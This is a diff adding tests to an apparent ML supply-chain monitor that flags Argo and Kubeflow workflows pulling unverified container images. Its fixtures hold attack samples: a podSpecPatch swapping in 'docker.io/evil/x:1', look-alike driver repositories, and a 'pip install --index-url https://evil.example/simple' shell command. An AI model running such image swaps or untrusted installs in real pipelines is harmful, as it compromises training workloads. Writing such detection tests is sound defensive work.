@@ -179,6 +179,68 @@ describe('KFP v2 Argo Workflows: the steps\' container specs the driver is given
   });
 });
 
+describe('Argo podSpecPatch filled from a workflow parameter (verify29b)', () => {
+  const PH = 'gcr.io/ml-pipeline/should-be-overridden-during-runtime';
+  const evilPatch = JSON.stringify({ containers: [{ name: 'main', image: 'docker.io/evil/x:1' }] });
+  const wf = (templates: unknown[], extra: Record<string, unknown> = {}) => one(write('workflows', 'argoproj.io', 'create', { spec: { arguments: { parameters: [{ name: 'p', value: evilPatch }] }, templates, ...extra } }));
+
+  it("a hand-written Workflow naming KFP's placeholder over a patch from a workflow parameter: the parameter's image is judged (was: no image, no alert)", () => {
+    const ev = wf([{ name: 't', podSpecPatch: '{{workflow.parameters.p}}', container: { image: PH } }]);
+    expect(ev.ml?.job?.images).toEqual(['docker.io/evil/x:1']);
+    expect(alertsOf([ev], 'training.unverified_dependency')).toHaveLength(1);
+  });
+
+  it('a pinned template image replaced by a patch from a workflow parameter: the patch image is judged (was: only the pinned one, no alert)', () => {
+    const ev = wf([{ name: 't', podSpecPatch: '{{ workflow.parameters.p }}', container: { image: PINNED } }]);
+    expect(ev.ml?.job?.images).toEqual([PINNED, 'docker.io/evil/x:1']);
+    expect(alertsOf([ev], 'training.unverified_dependency')).toHaveLength(1);
+  });
+
+  it("the Workflow-level podSpecPatch (merged into every pod) is read too", () => {
+    const ev = wf([{ name: 't', container: { image: PINNED } }], { podSpecPatch: '{{workflow.parameters.p}}' });
+    expect(ev.ml?.job?.images).toEqual([PINNED, 'docker.io/evil/x:1']);
+    expect(alertsOf([ev], 'training.unverified_dependency')).toHaveLength(1);
+  });
+
+  it("a patch from a template input mltrail cannot see keeps the placeholder judged, unless it is KFP v2's executor fed by its driver", () => {
+    const unknown = wf([{ name: 't', podSpecPatch: '{{inputs.parameters.p}}', container: { image: PH } }]);
+    expect(unknown.ml?.job?.images).toEqual([PH]);
+    expect(alertsOf([unknown], 'training.unverified_dependency')).toHaveLength(1);
+    // In a KFP v2 Workflow, a template other than the executor patched from an input keeps it as well.
+    const kfp = kfpV2Workflow({ image: PINNED, command: ['python3', 'train.py'] }) as { spec: { templates: unknown[] } };
+    kfp.spec.templates.push({ name: 'extra', podSpecPatch: '{{inputs.parameters.x}}', container: { image: PH } });
+    const ev = one(write('workflows', 'argoproj.io', 'create', kfp));
+    expect(ev.ml?.job?.images).toEqual(['ghcr.io/kubeflow/kfp-driver:2.5.0', 'ghcr.io/kubeflow/kfp-launcher:2.5.0', PH, PINNED]);
+    expect(alertsOf([ev], 'training.unverified_dependency')).toHaveLength(1);
+  });
+});
+
+describe("KFP v2 driver and launcher are trusted by repository, never by a look-alike (verify29b)", () => {
+  const step = (image: string, command = ['python3', 'train.py']) => one(write('workflows', 'argoproj.io', 'create', kfpV2Workflow({ image, command })));
+  it('a look-alike repository or a path under the driver\'s is judged; a step on the driver image still has its pip index judged', () => {
+    for (const image of ['ghcr.io/kubeflow/kfp-driver-evil:2.5.0', 'ghcr.io/kubeflow/kfp-driver/evil:1', 'ghcr.io/kubeflow2/kfp-driver:1', 'evil.example/ghcr.io/kubeflow/kfp-driver:1']) {
+      expect(alertsOf([step(image)], 'training.unverified_dependency').map((a) => a.summary).join()).toContain(image);
+    }
+    // Any tag of KFP's own repository is trusted, as every trusted_images entry is (only Kubeflow publishes there).
+    expect(alertsOf([step('ghcr.io/kubeflow/kfp-driver:evil')], 'training.unverified_dependency')).toEqual([]);
+    const pip = alertsOf([step('ghcr.io/kubeflow/kfp-driver:2.5.0', ['sh', '-c', 'pip install --index-url https://evil.example/simple x'])], 'training.unverified_dependency');
+    expect(pip).toHaveLength(1);
+    expect(pip[0]!.summary).toContain('https://evil.example/simple');
+  });
+
+  it('a malformed or huge implementations-<hash> parameter: the record is kept, no throw, a huge one is still read', () => {
+    const bad = step('x');
+    expect(bad.ml?.job?.images).toContain('x');
+    const wfBad = kfpV2Workflow({ image: PINNED, command: ['python3'] }) as { spec: { arguments: { parameters: Array<{ name: string; value: string }> } } };
+    for (const p of wfBad.spec.arguments.parameters) if (p.name.startsWith('implementations-')) p.value = '{"image":"docker.io/evil/x:1","command":[';
+    const ev = one(write('workflows', 'argoproj.io', 'create', wfBad));
+    expect(ev.ml?.job?.images).toEqual(['ghcr.io/kubeflow/kfp-driver:2.5.0', 'ghcr.io/kubeflow/kfp-launcher:2.5.0']);
+    const huge = one(write('workflows', 'argoproj.io', 'create', kfpV2Workflow({ image: 'docker.io/evil/x:1', command: ['sh', '-c', 'pip install --index-url https://evil.example/simple x; ' + 'echo a; '.repeat(100_000)] })));
+    expect(huge.ml?.job?.images).toContain('docker.io/evil/x:1');
+    expect(huge.ml?.job?.package_sources).toEqual(['https://evil.example/simple']);
+  });
+});
+
 describe('KServe storageUri reaches ml.deployment.model_uri', () => {
   const isvc = (verb: string, requestObject: unknown, over: Record<string, unknown> = {}) =>
     auditEvent({
